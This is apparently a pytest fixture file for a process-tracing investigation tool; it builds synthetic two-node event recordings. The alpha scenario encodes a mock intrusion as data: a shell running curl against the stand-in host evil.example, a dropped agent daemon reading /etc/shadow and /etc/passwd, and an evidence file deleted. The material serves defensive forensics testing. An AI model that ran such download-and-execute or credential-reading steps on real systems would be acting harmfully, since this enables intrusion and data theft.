"""Fixtures for the investigation tests: small recordings written with the real writer.

``scenario`` is a two-node recording whose every process is known: a shell that runs an
exec chain (sh -c -> failed exec -> curl), a python that daemonises an agent (reparented
to init, with a thread), a pid used twice, a process seen only in a file event, one killed
by SIGKILL, and a container whose first process joins the container at exec.
"""

from __future__ import annotations

import os
import shutil
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tracee_py.enrich.identity import process_id, start_ticks_from_ns
from tracee_py.store.rows import events_from_rows
from tracee_py.store.writer import EventWriter, StatsWriter, stats_manifest

S = 1_000_000_000
T0 = 1_773_482_400 * S  # 2026-03-14T10:00:00Z
BOOT_NS = T0 - 3600 * S
TRACEE = str(Path(sys.executable).with_name("tracee-py"))
CONTAINER = "c0ffee" + "0" * 58
NGINX = "/usr/sbin/nginx"


def at(seconds: float) -> int:
    """T0 + seconds, in ns."""
    return T0 + round(seconds * S)


@dataclass
class Proc:
    pid: int
    process_id: int
    ppid: int
    parent_id: int | None
    comm: str
    exe: str
    uid: int = 0
    container: dict[str, Any] = field(default_factory=dict)


class Recorder:
    """Rows the way the recorder writes them, built process by process."""

    def __init__(self, node: str, boot_id: str) -> None:
        self.node = node
        self.boot_id = boot_id
        self.rows: list[dict[str, Any]] = []
        self.procs: dict[str, Proc] = {}

    def _id(self, pid: int, start: int) -> int:
        return process_id(self.boot_id, pid, start_ticks_from_ns(start - BOOT_NS))

    def _row(self, p: Proc, t: int, event: str, **fields: Any) -> dict[str, Any]:
        row = {
            "time": t,
            "node": self.node,
            "boot_id": self.boot_id,
            "event": event,
            "pid": p.pid,
            "tid": p.pid,
            "ppid": p.ppid,
            "process_id": p.process_id,
            "parent_process_id": p.parent_id,
            "uid": p.uid,
            "gid": p.uid,
            "comm": p.comm,
            "exe": p.exe,
            **p.container,
        }
        row.update(fields)
        self.rows.append(row)
        return row

    def snapshot(
        self,
        name: str,
        pid: int,
        parent: str | None,
        exe: str,
        argv: list[str],
        start: int,
        **kw: Any,
    ) -> Proc:
        par = self.procs[parent] if parent else None
        p = Proc(
            pid,
            self._id(pid, start),
            par.pid if par else 0,
            par.process_id if par else None,
            exe.rsplit("/", 1)[-1][:15],
            exe,
            kw.pop("uid", 0),
            kw.pop("container", {}),
        )
        self.procs[name] = p
        self._row(p, T0, "process_snapshot", start_time=start, argv=argv, cwd="/", **kw)
        return p

    def fork(self, name: str, t: int, pid: int, parent: str, **kw: Any) -> Proc:
        par = self.procs[parent]
        p = Proc(
            pid,
            self._id(pid, t),
            par.pid,
            par.process_id,
            par.comm,
            par.exe,
            par.uid,
            dict(par.container),
        )
        self.procs[name] = p
        self._row(p, t, "process_fork", syscall="clone", retval=0, start_time=t, **kw)
        return p

    def exec(
        self,
        name: str,
        t: int,
        path: str,
        argv: list[str],
        *,
        retval: int = 0,
        exe: str | None = None,
        **kw: Any,
    ) -> None:
        p = self.procs[name]
        if retval < 0:
            self._row(p, t, "process_exec", syscall="execve", path=path, argv=argv, retval=retval)
            return
        p.container.update(kw.pop("container", {}))
        p.exe = exe or path
        p.comm = path.rsplit("/", 1)[-1][:15]
        self._row(
            p,
            t,
            "process_exec",
            syscall="execve",
            path=path,
            argv=argv,
            retval=0,
            exe_sha256=f"sha-{p.comm}",
            **kw,
        )

    def exit(self, name: str, t: int, code: int = 0, signal: int | None = None) -> None:
        p = self.procs[name]
        self._row(p, t, "process_exit", syscall="exit_group", exit_code=code, signal=signal)

    def event(self, name: str, t: int, kind: str, **fields: Any) -> dict[str, Any]:
        return self._row(self.procs[name], t, kind, **fields)

    def reparent(self, name: str, new_parent: str) -> None:
        """What the kernel does when the parent dies: later events show the new ppid."""
        p, par = self.procs[name], self.procs[new_parent]
        p.ppid, p.parent_id = par.pid, par.process_id

    def write(self, root: Path, *, files: int = 1, run: str = "run") -> list[Path]:
        """Write the rows (time order) as ``files`` files, each closed by its own writer."""
        rows = sorted(self.rows, key=lambda r: r["time"])
        written: list[Path] = []
        per = -(-len(rows) // files)
        for i in range(files):
            chunk = rows[i * per : (i + 1) * per]
            if not chunk:
                continue
            writer = EventWriter(root, self.node, run_id=f"{run}{i}")
            writer.write(events_from_rows(chunk))
            writer.close()
            written += [c.path for c in writer.closed_files]
        return written


@dataclass
class Scenario:
    root: Path
    ids: dict[str, int]  # "alpha:bash" -> process_id
    pids: dict[str, int]
    rows: int

    def id(self, name: str) -> int:
        return self.ids[name]


def build_alpha(rec: Recorder) -> None:
    rec.snapshot("init", 1, None, "/sbin/init", ["/sbin/init"], BOOT_NS + S)
    rec.snapshot("sshd", 100, "init", "/usr/sbin/sshd", ["sshd", "-D"], BOOT_NS + 5 * S)
    rec.snapshot("bash", 200, "sshd", "/usr/bin/bash", ["-bash"], T0 - 600 * S, uid=1000)
    rec.snapshot(
        "shim",
        650,
        "init",
        "/usr/bin/containerd-shim-runc-v2",
        ["containerd-shim-runc-v2", "-id", "web"],
        T0 - 300 * S,
    )
    # An exec chain: sh -c, a failed exec (PATH search), then curl in the same process.
    rec.fork("curl", at(1), 300, "bash")
    rec.exec(
        "curl",
        at(1.1),
        "/bin/sh",
        ["sh", "-c", "exec curl -s http://evil.example/x"],
        exe="/usr/bin/dash",
    )
    rec.exec(
        "curl", at(1.15), "/usr/local/bin/curl", ["curl", "-s", "http://evil.example/x"], retval=-2
    )
    rec.exec("curl", at(1.2), "/usr/bin/curl", ["curl", "-s", "http://evil.example/x"])
    rec.event(
        "curl",
        at(1.3),
        "net_connect",
        syscall="connect",
        family="inet",
        addr="203.0.113.5",
        port=80,
        fd=3,
        retval=0,
    )
    rec.event(
        "curl",
        at(1.4),
        "file_open",
        syscall="openat",
        path="/tmp/x",
        flags=577,
        mode=0o644,
        fd=4,
        retval=4,
    )
    rec.exit("curl", at(2))
    # python daemonises an agent, then exits: the agent is reparented to init.
    rec.fork("python", at(3), 301, "bash")
    rec.exec("python", at(3.1), "/usr/bin/python3", ["python3", "/tmp/x.py"])
    rec.fork("agent", at(3.5), 302, "python")
    rec.exec("agent", at(3.6), "/tmp/agent", ["/tmp/agent", "--daemon"])
    rec.exit("python", at(4))
    rec.reparent("agent", "init")
    rec.event(
        "agent", at(10), "file_open", syscall="openat", path="/etc/shadow", flags=0, fd=5, retval=5
    )
    thread = rec.event(
        "agent", at(11), "file_open", syscall="openat", path="/etc/passwd", flags=0, fd=6, retval=6
    )
    thread["tid"] = 303
    rec.event(
        "agent",
        at(12),
        "net_connect",
        syscall="connect",
        family="inet",
        addr="198.51.100.7",
        port=443,
        fd=7,
        retval=-111,
    )
    # pid 400 twice: ls, then cat.
    rec.fork("ls", at(5), 400, "bash")
    rec.exec("ls", at(5.1), "/usr/bin/ls", ["ls", "-la"])
    rec.exit("ls", at(5.5))
    rec.fork("cat", at(20), 400, "bash")
    rec.exec("cat", at(20.1), "/usr/bin/cat", ["cat", "/etc/hosts"])
    rec.event(
        "cat", at(20.2), "file_open", syscall="openat", path="/etc/hosts", flags=0, fd=3, retval=3
    )
    rec.exit("cat", at(21), code=1)
    # A process seen only through one event (its fork was lost).
    ghost = Proc(
        500, rec._id(500, at(6)), 200, rec.procs["bash"].process_id, "ghost", "/usr/bin/ghost", 1000
    )
    rec.procs["ghost"] = ghost
    rec.event("ghost", at(6), "file_unlink", syscall="unlinkat", path="/tmp/evidence", retval=0)
    # Killed by SIGKILL.
    rec.fork("sleep", at(7), 600, "bash")
    rec.exec("sleep", at(7.1), "/usr/bin/sleep", ["sleep", "100"])
    rec.exit("sleep", at(8), code=-9, signal=9)
    # A container: the first process joins the container between fork and exec.
    web = {
        "container_id": CONTAINER,
        "container_name": "web",
        "container_image": "nginx:1.27",
        "pod_name": "web-1",
        "pod_namespace": "prod",
        "pod_uid": "pod-uid-1",
    }
    rec.fork("nginx", at(9), 700, "shim")
    rec.exec("nginx", at(9.1), NGINX, ["nginx", "-g", "daemon off;"], container=web)
    rec.fork("worker", at(9.5), 701, "nginx")
    rec.event(
        "worker",
        at(9.6),
        "net_accept",
        syscall="accept4",
        family="inet",
        addr="10.0.0.9",
        port=51000,
        fd=8,
        retval=8,
    )


def build_beta(rec: Recorder) -> None:
    rec.snapshot("init", 1, None, "/sbin/init", ["/sbin/init"], BOOT_NS + 2 * S)
    rec.snapshot("bash", 200, "init", "/usr/bin/bash", ["bash"], T0 - 100 * S)
    rec.fork("curl", at(2), 300, "bash")
    rec.exec("curl", at(2.1), "/usr/bin/curl", ["curl", "https://example.org"])
    rec.event(
        "curl",
        at(2.2),
        "net_connect",
        syscall="connect",
        family="inet6",
        addr="2001:db8::1",
        port=443,
        fd=3,
        retval=0,
    )
    rec.exit("curl", at(3))


def write_scenario(root: Path) -> Scenario:
    ids: dict[str, int] = {}
    pids: dict[str, int] = {}
    total = 0
    for node, boot, build, files in (
        ("alpha", "boot-a", build_alpha, 3),
        ("beta", "boot-b", build_beta, 1),
    ):
        rec = Recorder(node, boot)
        build(rec)
        rec.write(root, files=files)
        total += len(rec.rows)
        for name, p in rec.procs.items():
            ids[f"{node}:{name}"] = p.process_id
            pids[f"{node}:{name}"] = p.pid
    stats = StatsWriter(root, "alpha", manifest=stats_manifest(root, "alpha", "run"))
    stats.write_rows(
        [
            {
                "interval_start": at(0),
                "interval_end": at(60),
                "node": "alpha",
                "boot_id": "boot-a",
                "run_id": "run",
                "metric": "lost",
                "kind": "file_open",
                "value": 7,
            },
            {
                "interval_start": at(0),
                "interval_end": at(60),
                "node": "alpha",
                "boot_id": "boot-a",
                "run_id": "run",
                "metric": "events",
                "kind": "file_open",
                "value": 4,
            },
        ]
    )
    assert stats.manifest is not None
    stats.manifest.close()
    return Scenario(root=root, ids=ids, pids=pids, rows=total)


@pytest.fixture(scope="session")
def scenario(tmp_path_factory: pytest.TempPathFactory) -> Scenario:
    """The two-node recording; tests only read it."""
    return write_scenario(tmp_path_factory.mktemp("scenario") / "data")


@pytest.fixture
def scenario_copy(scenario: Scenario, tmp_path: Path) -> Scenario:
    """A private copy a test may damage."""
    root = tmp_path / "data"
    shutil.copytree(scenario.root, root)
    return Scenario(root=root, ids=scenario.ids, pids=scenario.pids, rows=scenario.rows)


@pytest.fixture(scope="session")
def cache_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("index-cache")


@pytest.fixture(autouse=True)
def _isolated_env(monkeypatch: pytest.MonkeyPatch, cache_root: Path) -> None:
    """No test reads the user's data or cache directories."""
    monkeypatch.setenv("TRACEE_PY_CACHE", str(cache_root))
    monkeypatch.delenv("TRACEE_PY_DATA", raising=False)
    monkeypatch.setenv("COLUMNS", "200")
    os.environ.pop("TRACEE_PY_DATA", None)
